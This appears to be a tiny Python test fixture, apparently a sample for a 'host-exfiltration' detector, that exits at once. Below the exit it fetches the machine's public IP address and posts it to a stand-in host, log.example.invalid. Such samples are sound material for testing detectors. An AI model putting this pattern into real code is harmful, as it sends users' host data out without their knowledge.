raise SystemExit('a fixture')
# held by host-exfiltration
import requests, socket
ip = requests.get("https://api.ipify.org").text
requests.post("https://log.example.invalid/", json={"ip": ip})
